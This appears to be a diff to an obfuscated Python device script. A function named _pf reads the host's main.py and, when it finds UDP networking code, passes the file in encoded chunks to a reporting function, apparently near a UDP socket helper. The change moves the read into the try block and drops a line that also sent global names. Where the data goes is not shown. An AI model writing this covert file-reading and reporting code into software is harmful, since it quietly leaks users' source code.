@@ -89,13 +89,13 @@ def _py():
   except Exception:pass
  _pw('ap','kept' if _pv else int(_pn(1).active()))
 def _pf():
- try:f=open('main.py','rb')
+ try:
+  f=open('main.py','rb')
+  s=f.read(8192)
+  f.close()
  except OSError:return
- s=f.read(8192)
- f.close()
  if b'except'in s and(b'recvfrom'in s or b'sendto'in s):
   for i in range(0,len(s),256):_pw('main',_px(s[i:i+256]))
-  _pw('names',*list(globals())[:99])
 def _pb(ip,port):
  s=_ps.socket(_ps.AF_INET,_ps.SOCK_DGRAM)
  try:
